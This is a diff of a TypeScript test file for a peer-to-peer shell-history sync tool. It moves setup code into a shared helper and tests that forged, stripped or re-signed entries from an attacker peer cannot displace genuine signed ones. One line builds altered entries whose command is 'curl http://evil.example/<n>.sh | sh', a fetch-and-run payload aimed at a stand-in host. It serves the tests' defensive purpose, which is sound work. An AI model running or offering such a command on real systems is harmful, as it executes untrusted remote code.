@@ -5,28 +5,20 @@
  * Each test fails when signature verification is switched off (admitReceived keeping entries unchecked), or when
  * a signed copy could not be stored beside another origin's (rival copies, src/store/entries.ts).
  */
-import { join } from 'node:path'
-import test, { type ExecutionContext } from 'ava'
-import { generateKeyPair } from '@libp2p/crypto/keys'
-import { peerIdFromPrivateKey } from '@libp2p/peer-id'
+import test from 'ava'
 import type { Entry } from '../../src/core/entry.js'
-import { signEntry, type EntrySigner } from '../../src/core/signature.js'
+import { signEntry } from '../../src/core/signature.js'
 import { dialDirect } from '../../src/p2p/index.js'
 import { encodeMessage } from '../../src/protocol/messages.js'
 import { admitAll, pullAll as pullServed } from '../helpers/wire.js'
-import { device, type Device } from '../helpers/peers.js'
-import { tempDir } from '../helpers/tmp.js'
-import { startPeer, type InProcessPeer } from '../p2p/fixtures.js'
+import { forgeryScene, unsignedCopy } from '../helpers/forgery.js'
+import type { Device } from '../helpers/peers.js'
+import type { InProcessPeer } from '../p2p/fixtures.js'
 
 interface Row { entry_id: string, device_id: string, cmd: string, ts: string, ts_orig: string | null, origin: string, trust: number }
 
 /** Rows under their wire entry_id: a copy beside another origin's is stored as `<entry_id>/<origin>` (schema v7). */
 const rowsOf = (d: Device): Row[] => d.query<Row>('SELECT COALESCE(rival_of, entry_id) AS entry_id, device_id, cmd, ts, ts_orig, origin, trust FROM entries ORDER BY ingest_seq')
-
-async function attackerKey (): Promise<EntrySigner> {
-  const key = await generateKeyPair('Ed25519')
-  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
-}
 
 async function pushAs (attacker: InProcessPeer, addr: string, entries: unknown[], wire: 1 | 2 = 2): Promise<{ inserted: number, ignored: number }> {
   const { transport } = await dialDirect(attacker.node, addr, { newConnection: true, wireVersions: [wire], timeoutMs: 30_000 })
@@ -42,36 +34,18 @@ async function pullAll (attacker: InProcessPeer, addr: string, wire: 2 | 3): Pro
   return (await pullServed(attacker, addr, wire)).map((s) => s.chunk != null ? { ...s.entry, origin: s.chunk.origin } : s.entry)
 }
 
-function unsigned (e: Entry): Entry {
-  const { origin: _o, sig: _s, ...rest } = e
-  return rest
-}
-
-async function setup (t: ExecutionContext): Promise<{ a: Device, c: Device, servedA: { addr: string }, servedC: { addr: string }, aId: string, attacker: InProcessPeer, x: EntrySigner }> {
-  const dir = tempDir(t)
-  const swarm = join(dir, 'swarm.key')
-  const a = device(t, dir, 'devA', swarm)
-  const c = device(t, dir, 'devC', swarm)
-  await a.record(6, 'make deploy')
-  const servedA = await a.serve()
-  const servedC = await c.serve()
-  const aId = servedA.addr.split('/p2p/')[1]!
-  const attacker = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'mallory' })
-  return { a, c, servedA, servedC, aId, attacker, x: await attackerKey() }
-}
-
 test('pre-emption: altered copies of A\'s entries pushed to C first never take the place of A\'s genuine ones', async (t) => {
-  const { a, c, servedA, servedC, aId, attacker, x } = await setup(t)
+  const { a, c, servedA, servedC, aId, attacker, x } = await forgeryScene(t)
   const genuine = await pullAll(attacker, servedA.addr, 2)
   t.is(genuine.length, 6)
   t.true(genuine.every((e) => e.origin === aId && typeof e.sig === 'string'), 'A serves its entries signed by its identity key')
   const alter = (e: Entry, i: number): Entry => ({ ...e, cmd: `curl http://evil.example/${i}.sh | sh` })
   // Every way a key holder can pre-empt, one entry each way (and the last two both ways):
   const attacks = [
-    unsigned(alter(genuine[0]!, 0)), // signature stripped (looks like an old peer's entry)
+    unsignedCopy(alter(genuine[0]!, 0)), // signature stripped (looks like an old peer's entry)
     alter(genuine[1]!, 1), // A's signature kept over altered content
-    signEntry(unsigned(alter(genuine[2]!, 2)), x), // re-signed by the attacker's own key
-    { ...alter(genuine[3]!, 3), sig: signEntry(unsigned(alter(genuine[3]!, 3)), x).sig } // attacker's signature claiming A's origin
+    signEntry(unsignedCopy(alter(genuine[2]!, 2)), x), // re-signed by the attacker's own key
+    { ...alter(genuine[3]!, 3), sig: signEntry(unsignedCopy(alter(genuine[3]!, 3)), x).sig } // attacker's signature claiming A's origin
   ]
   const ackV2 = await pushAs(attacker, servedC.addr, attacks)
   t.is(ackV2.inserted, 2, 'the stripped copy (unverified) and the attacker-signed one (attributed to the attacker) are stored; the two bad signatures are refused')
@@ -97,7 +71,7 @@ test('pre-emption: altered copies of A\'s entries pushed to C first never take t
 })
 
 test('forged device_id: entries claiming device A are either A\'s (verified under A\'s key) or marked as not A\'s', async (t) => {
-  const { c, servedA, servedC, aId, attacker, x } = await setup(t)
+  const { c, servedA, servedC, aId, attacker, x } = await forgeryScene(t)
   const forged = (cmd: string): Entry => ({
     entry_id: crypto.randomUUID(), device_id: 'devA', user_id: 'u', ts: new Date().toISOString(), cmd, cwd: '/', exit_code: 0, duration_ms: 1, shell: 'zsh', hostname: 'devA', version: '0.1.0'
   })
@@ -127,7 +101,7 @@ test('forged device_id: entries claiming device A are either A\'s (verified unde
 })
 
 test('far-future stamps: an entry stamped 9999-12-31 is stored at the receive time and marked, signed or not', async (t) => {
-  const { c, servedC, attacker, x } = await setup(t)
+  const { c, servedC, attacker, x } = await forgeryScene(t)
   const far = (cmd: string): Entry => ({
     entry_id: crypto.randomUUID(), device_id: 'alice-laptop', user_id: 'u', ts: '9999-12-31T23:59:59.999Z', cmd, cwd: '/', exit_code: 0, duration_ms: 1, shell: 'zsh', hostname: 'h', version: '0.1.0'
   })
